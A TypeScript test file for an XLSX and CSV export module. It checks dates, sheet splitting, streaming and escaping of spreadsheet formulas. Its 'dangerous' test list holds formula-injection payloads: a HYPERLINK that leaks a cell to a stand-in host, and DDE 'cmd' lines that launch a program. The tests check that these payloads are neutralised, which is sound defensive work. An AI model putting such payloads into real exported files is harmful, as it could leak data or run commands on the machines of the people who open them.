import { setImmediate } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { checkRows } from '../../../test/rows.ts';
import { readCsv, readWorkbook, unzip } from '../../../test/workbook.ts';
import { csvOf } from './csv.ts';
import type { Column } from './table.ts';
import { type Workbook, xlsxOf } from './xlsx.ts';

interface Row {
  readonly text: string | null;
  readonly at: string | null;
  readonly count: number | null;
}
const columns: readonly Column<Row>[] = [
  { heading: 'Tekst', kind: 'text', width: 20, of: ({ text }) => text },
  { heading: 'Ora', kind: 'instant', width: 18, of: ({ at }) => at },
  { heading: 'Numri', kind: 'number', width: 8, of: ({ count }) => count },
];
const rowOf = (text: string | null): Row => ({ text, at: null, count: null });

async function* oneAtATime<T>(rows: readonly T[]): AsyncGenerator<T> {
  yield* rows;
}
async function whole(parts: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const part of parts) all.push(part);
  return Buffer.concat(all);
}
const workbookOf = (rows: AsyncIterable<Row>): Workbook<Row> => ({
  title: 'Regjistri <i provës>',
  creator: 'KQZ & të tjerë',
  at: new Date('2026-11-16T09:00:00Z'),
  language: 'al',
  name: 'Denoncimet',
  columns,
  rows,
  about: { name: 'Rreth', widths: [20, 40], rows: (count) => [[{ kind: 'number', value: count }]] },
});
const xlsx = async (rows: readonly Row[], max?: number) => whole(xlsxOf(workbookOf(oneAtATime(rows)), max));
const textsInXlsx = async (texts: readonly string[]) => {
  const [sheet] = readWorkbook(await xlsx(texts.map(rowOf)));
  return sheet?.rows.slice(1).map(([text]) => text);
};
const textsInCsv = async (texts: readonly string[]) => {
  const csv = await whole(csvOf(columns, oneAtATime(texts.map(rowOf))));
  return readCsv(csv.toString().slice(1))
    .slice(1)
    .map(([text]) => text);
};

const dangerous = [
  '=HYPERLINK("http://example.test?leak="&A1,"Kliko")',
  '+355 69 000 0000',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
];

describe('a workbook', () => {
  it('holds real dates in Tirana time and numbers under a frozen filter header', async () => {
    const [sheet, about] = readWorkbook(
      await xlsx([
        { text: 'një', at: '2026-11-16T10:42:07+01:00', count: 7 },
        { text: null, at: '2026-07-01T00:00:00+02:00', count: 0 },
      ]),
    );
    expect(sheet?.name).toBe('Denoncimet');
    expect(sheet?.rows).toEqual([
      ['Tekst', 'Ora', 'Numri'],
      ['një', expect.closeTo(46_342.44591, 5), 7],
      [null, 46_204, 0],
    ]);
    expect(sheet?.xml).toContain('state="frozen"');
    expect(sheet?.xml).toContain('<autoFilter ref="A1:C3"/>');
    expect(about?.rows).toEqual([[2]]);
  });

  it('names its type in the first ZIP entry, for mail filters', async () => {
    const file = await xlsx([]);
    expect(file.toString('latin1', 30, 49)).toBe('[Content_Types].xml');
    expect([...unzip(file).values()].every((part) => part.startsWith('<?xml'))).toBe(true);
    expect(readWorkbook(file)[0]?.rows).toEqual([['Tekst', 'Ora', 'Numri']]);
  });

  it('gives its entries the time of UTC, also on the day on which the clock of the process changes', async () => {
    const { TZ } = process.env;
    process.env.TZ = 'Europe/Tirane';
    const file = await whole(xlsxOf({ ...workbookOf(oneAtATime([])), at: new Date('2026-03-29T01:30:00Z') }));
    if (TZ === undefined) delete process.env.TZ;
    else process.env.TZ = TZ;
    const [time, day] = [file.readUInt16LE(10), file.readUInt16LE(12)];
    expect([day & 31, time >> 11, (time >> 5) & 63]).toEqual([29, 1, 30]);
  });

  it('keeps every letter and escapes formulas', async () => {
    const texts = ['<b>&"\'</b>', '  hapësira  ', 'dy\nrreshta', '_x0041_', 'ëË çÇ €', '👩🏽‍⚖️', '42', 'a=b-c'];
    expect(await textsInXlsx(texts)).toEqual(texts);
    const written = await textsInXlsx(dangerous);
    expect(written?.map((text) => String(text)[0])).toEqual(dangerous.map(() => "'"));
    expect(await textsInXlsx(['a\u0000b', 'gjysma \uD800', 'fund\uFFFF'])).toEqual([
      'a\uFFFDb',
      'gjysma \uFFFD',
      'fund\uFFFD',
    ]);
    expect((await textsInXlsx(['x'.repeat(40_000)]))?.[0]).toHaveLength(32_767);
  });

  it('continues on another sheet only when one is full', async () => {
    const rows = Array.from({ length: 4 }, (_, index) => rowOf(`r${index}`));
    const sheets = readWorkbook(await xlsx(rows, 3));
    expect(sheets.map(({ name, rows: all }) => [name, all.length])).toEqual([
      ['Denoncimet', 4],
      ['Denoncimet 2', 2],
      ['Rreth', 1],
    ]);
    expect(sheets[1]?.rows[1]).toEqual(['r3']);
    expect(sheets[2]?.rows).toEqual([[4]]);
    expect(readWorkbook(await xlsx(rows, 4))).toHaveLength(2);
  });
});

describe('CSV', () => {
  it('is RFC 4180 with a BOM, with instants in ISO 8601', async () => {
    const rows = [
      { text: 'me "thonjëza", presje;\r\nrreshta', at: '2026-11-16T10:42:07+01:00', count: 0 },
      { text: null, at: null, count: null },
    ];
    const csv = (await whole(csvOf(columns, oneAtATime(rows)))).toString();
    expect(csv).toBe(
      '\uFEFFTekst,Ora,Numri\r\n"me ""thonjëza"", presje;\r\nrreshta",2026-11-16T10:42:07+01:00,0\r\n,,\r\n',
    );
    expect(readCsv(csv.slice(1))[1]).toEqual([rows[0]?.text, rows[0]?.at, '0']);
  });

  it('escapes formulas also where the semicolon separates', async () => {
    const written = await textsInCsv(dangerous);
    expect(written.map((text) => text?.[0])).toEqual(dangerous.map(() => "'"));
    expect(await textsInCsv(['Shkolla;=HYPERLINK("http://example.test")', 'a; "=1+1', 'b;c', 'd\n=1'])).toEqual([
      'Shkolla;\'=HYPERLINK("http://example.test")',
      'a; "\'=1+1',
      'b;c',
      "d\n'=1",
    ]);
  });
});

describe('both', () => {
  function endless() {
    const preview = { requested: 0, ended: false };
    const rows = async function* () {
      try {
        for (;;) {
          preview.requested += 1;
          yield rowOf(`rreshti ${preview.requested} ${Math.sin(preview.requested)}`);
        }
      } finally {
        preview.ended = true;
      }
    };
    return { seen: preview, rows: rows() };
  }

  it('reads no further than its reader and closes the rows', () =>
    checkRows(
      [
        ['xlsx', (rows: AsyncIterable<Row>) => xlsxOf(workbookOf(rows))],
        ['csv', (rows: AsyncIterable<Row>) => csvOf(columns, rows)],
      ],
      async ([_, write]) => {
        const { seen: preview, rows } = endless();
        const parts = write(rows);
        let taken = 0;
        while (taken < 200_000) taken += (await parts.next()).value?.length ?? 0;
        // Turns of the event loop, in which it could read on.
        for (let turn = 0; turn < 1000; turn++) await setImmediate();
        expect(preview.requested).toBeLessThan(60_000);
        await parts.return(undefined);
        await expect.poll(() => preview.ended).toBe(true);
      },
    ));

  it('fails when the rows fail', () =>
    checkRows(
      [
        ['xlsx', (rows: AsyncIterable<Row>) => xlsxOf(workbookOf(rows))],
        ['csv', (rows: AsyncIterable<Row>) => csvOf(columns, rows)],
      ],
      async ([_, write]) => {
        const broken = async function* () {
          yield rowOf('një');
          throw new Error('the database went away');
        };
        await expect(whole(write(broken()))).rejects.toThrow('the database went away');
      },
    ));
});
